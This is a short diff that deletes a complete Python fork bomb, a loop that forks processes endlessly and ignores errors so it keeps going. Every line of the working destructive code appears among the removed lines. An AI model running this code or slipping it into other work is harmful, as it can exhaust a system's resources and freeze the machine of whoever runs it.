@@ -1,9 +1,0 @@
-#!/usr/bin/env python3
-# A fork bomb: every process makes more of them, for ever.
-import os
-
-while True:
-    try:
-        os.fork()
-    except OSError:
-        pass
